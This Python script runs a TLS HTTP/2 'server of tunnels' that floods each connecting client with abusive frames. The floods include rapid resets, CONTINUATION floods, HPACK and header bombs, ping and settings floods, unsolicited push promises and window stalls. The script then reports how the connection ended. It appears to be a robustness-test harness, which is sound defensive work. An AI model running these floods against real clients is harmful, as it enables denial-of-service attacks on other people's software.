"""HTTP/2 abuse by a server of tunnels: whoever opens one gets so many frames of a kind, and the next who comes the rest.
Tells how the first connection ended, and how many frames went out over how many connections."""

import argparse
import socket
import ssl
import time

import hyperframe.frame as frames

import provoke
import wire

# How long one connection, and the whole, may take.
SECONDS_MAX = 20.0
ALL_SECONDS_MAX = 400.0
# What is waited for what the other side does of it, at the end of a connection.
WAIT_SECONDS = 0.5
AGAIN_WAIT_SECONDS = 0.02
# A client that asks for nothing is none.
REQUEST_SECONDS = 10.0
# Frames that are sent in one go, so that many are under way before the first is judged.
BATCH = 50
# Of kilobytes each.
LARGE_BATCH = 8

HEADERS, RST, SETTINGS, PUSH_PROMISE, WINDOW_UPDATE, CONTINUATION = 1, 3, 4, 5, 8, 9
END_HEADERS = 4
# `:status: 200`, as the static table has it.
OK = b"\x88"


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--listen", required=True, help="address:port of tunnels")
    for name in ("--certificate", "--key", "--roots", "--attack"):
        parser.add_argument(name, required=True)
    parser.add_argument("--frames", type=int, required=True)
    parser.add_argument("--again", action="store_true", help="over as many connections as that takes")
    told = parser.parse_args()
    if told.attack not in KINDS:
        raise SystemExit(f"no abuse is called {told.attack}; there are {', '.join(KINDS)}")
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.minimum_version = ssl.TLSVersion.TLSv1_3
    context.load_cert_chain(told.certificate, told.key)
    context.load_verify_locations(told.roots)
    context.verify_mode = ssl.CERT_REQUIRED
    context.set_alpn_protocols(["h2"])
    host, _, port = told.listen.rpartition(":")
    with socket.create_server((host, int(port)), backlog=128) as listener:
        print("listening", flush=True)
        wire.tell(**serve(told, context, listener))


def serve(told, context, listener):
    began = time.monotonic()
    sent, connections, left_open, first = 0, 0, 0, None
    while sent < told.frames and time.monotonic() - began < ALL_SECONDS_MAX:
        listener.settimeout(ALL_SECONDS_MAX)
        plain, _ = listener.accept()
        try:
            plain.settimeout(REQUEST_SECONDS)
            stream = context.wrap_socket(plain, server_side=True)
        except OSError:
            # Who is cut may have begun another handshake and left.
            plain.close()
            continue
        wait = AGAIN_WAIT_SECONDS if told.again else WAIT_SECONDS
        outcome = Attack(stream, told.attack, wait).run(told.frames - sent)
        stream.close()
        if outcome is None:
            continue
        connections += 1
        sent += outcome["sent"]
        left_open += outcome["closed"] is None and sent < told.frames
        first = first or outcome
        if not told.again:
            break
    first = first or dict(closed=None, goaway=None)
    seconds = round(time.monotonic() - began, 3)
    return dict(
        sent=sent,
        connections=connections,
        left_open=left_open,
        seconds=seconds,
        closed=first["closed"],
        goaway=first["goaway"],
    )


class Attack:
    """One kind over one connection."""

    def __init__(self, stream, name, wait):
        self.name = name
        self.wait = wait
        self.stream = stream
        self.reader = wire.Reader(stream)

    def run(self, most):
        """None when nothing was asked for."""
        self.send(wire.EMPTY_SETTINGS)
        asked = self.request()
        if asked is None:
            return None
        began, sent = time.monotonic(), 0
        make = KINDS[self.name](self, asked)
        size = LARGE_BATCH if "bomb" in self.name else BATCH
        while sent < most and time.monotonic() - began < SECONDS_MAX:
            if not self.send(b"".join(next(make) for _ in range(size))):
                break
            sent += size
            self.reader.poll(0)
            if self.reader.closed or self.reader.goaway is not None:
                break
        if self.reader.goaway is None:
            self.reader.poll(self.wait)
        goaway = self.reader.goaway
        return dict(sent=sent, closed=self.reader.closed or goaway and "goaway", goaway=goaway)

    def request(self):
        """The stream that the first CONNECT opens."""
        preface, until = b"", time.monotonic() + REQUEST_SECONDS
        self.stream.settimeout(REQUEST_SECONDS)
        try:
            while len(preface) < len(wire.PREFACE):
                piece = self.stream.recv(len(wire.PREFACE) - len(preface))
                if not piece:
                    return None
                preface += piece
        except OSError:
            return None
        while time.monotonic() < until and not self.reader.closed:
            for kind, _, stream, _ in self.reader.poll(0.1, HEADERS):
                if kind == HEADERS:
                    return stream
        return None

    def accept(self, stream):
        self.send(wire.frame(HEADERS, END_HEADERS, stream, OK))

    def send(self, data):
        """False when the other side has closed, or takes nothing for a long time."""
        self.stream.settimeout(5.0)
        try:
            self.stream.sendall(data)
            return True
        except TimeoutError:
            self.reader.closed = "takes nothing"
            return False
        except OSError as error:
            self.reader.poll(self.wait)
            self.reader.closed = self.reader.closed or type(error).__name__
            return False


def again(data):
    while True:
        yield data


def after_accept(make):
    """The same frame, over and over, on a stream that was accepted."""

    def begin(attack, stream):
        attack.accept(stream)
        return again(make(stream))

    return begin


def reset(stream):
    return wire.frame(RST, 0, stream, (8).to_bytes(4, "big"))


def continuation(attack, stream):
    yield wire.frame(HEADERS, 0, stream, OK)
    while True:
        yield wire.frame(CONTINUATION, 0, stream, wire.literal(b"a", b"b" * 50))


def empty_continuation(attack, stream):
    yield wire.frame(HEADERS, 0, stream, OK)
    while True:
        yield wire.frame(CONTINUATION, 0, stream, b"")


def settings(attack, stream):
    made = frames.SettingsFrame(0)
    made.settings = {3: 100, 4: 65535}
    return again(made.serialize())


def ping(attack, stream):
    made = frames.PingFrame(0)
    made.opaque_data = b"are you?"
    return again(made.serialize())


def priority(attack, stream):
    made = frames.PriorityFrame(1)
    made.depends_on, made.stream_weight, made.exclusive = 0, 16, False
    return again(made.serialize())


def unknown_frames(attack, stream):
    return again(wire.frame(0xBE, 0xFF, 0, b"nobody knows"))


def empty_data(stream):
    return wire.frame(0, 0, stream, b"")


def empty_data_stalled(attack, stream):
    """The application is sent more than it takes, which is nothing, and then frames without anything."""
    attack.accept(stream)
    attack.send(wire.frame(0, 0, stream, bytes(16384)) * 3)
    return again(empty_data(stream))


def padded_data(stream):
    return wire.frame(0, 8, stream, b"\xff" + b"x" + bytes(255))


def interim(stream):
    """Answers before the answer: a connection's end is none of them."""
    return wire.frame(HEADERS, END_HEADERS, stream, wire.literal(b":status", b"103"))


def bomb(name):
    """Answers whose fields all refer to one entry of the table."""

    def begin(attack, stream):
        entry = b"\x40" + wire.literal(name, b"b" * (3500 if name == b"bomb" else 0))[1:]
        block = wire.literal(b":status", b"103")
        yield wire.frame(HEADERS, END_HEADERS, stream, block + entry)
        while True:
            yield wire.frame(HEADERS, END_HEADERS, stream, block + b"\xbe" * 16000)

    return begin


def push(attack, stream):
    """Streams of the server's own, which no client has allowed."""
    promised = 2
    while True:
        block = promised.to_bytes(4, "big") + wire.literal(b":method", b"GET")
        yield wire.frame(PUSH_PROMISE, END_HEADERS, stream, block)
        promised += 2


def window_stall(attack, stream):
    """Takes what the application sends byte by byte."""
    attack.send(wire.frame(SETTINGS, 0, 0, b"\x00\x04" + bytes(4)))
    attack.accept(stream)
    return again(wire.frame(WINDOW_UPDATE, 0, stream, (1).to_bytes(4, "big")))


def trailers(stream):
    """A list of fields after the answer, and one more, and one more."""
    return wire.frame(HEADERS, END_HEADERS, stream, wire.literal(b"a", b"b" * 20))


def goaway(attack, stream):
    made = frames.GoAwayFrame(0)
    made.last_stream_id, made.error_code = stream, 0
    return again(made.serialize())


KINDS = {
    "resets": after_accept(reset),
    "made-you-reset-window-0": after_accept(provoke.window_0),
    "made-you-reset-overflow": after_accept(provoke.overflow),
    "made-you-reset-data-after-end": after_accept(provoke.data_after_end),
    "made-you-reset-headers-after-end": after_accept(provoke.headers_after_end),
    "made-you-reset-priority-length": after_accept(provoke.priority_length),
    "continuation": continuation,
    "empty-continuation": empty_continuation,
    "settings": settings,
    "ping": ping,
    "priority": priority,
    "unknown-frames": unknown_frames,
    "empty-data-drained": after_accept(empty_data),
    "empty-data-stalled": empty_data_stalled,
    "padded-data": after_accept(padded_data),
    "interim-answers": lambda attack, stream: again(interim(stream)),
    "hpack-bomb": bomb(b"bomb"),
    "http2-bomb": bomb(b"x"),
    "http2-bomb-cookie": bomb(b"cookie"),
    "push-promises": push,
    "window-stall": window_stall,
    "trailers": after_accept(trailers),
    "goaway": goaway,
}

main()
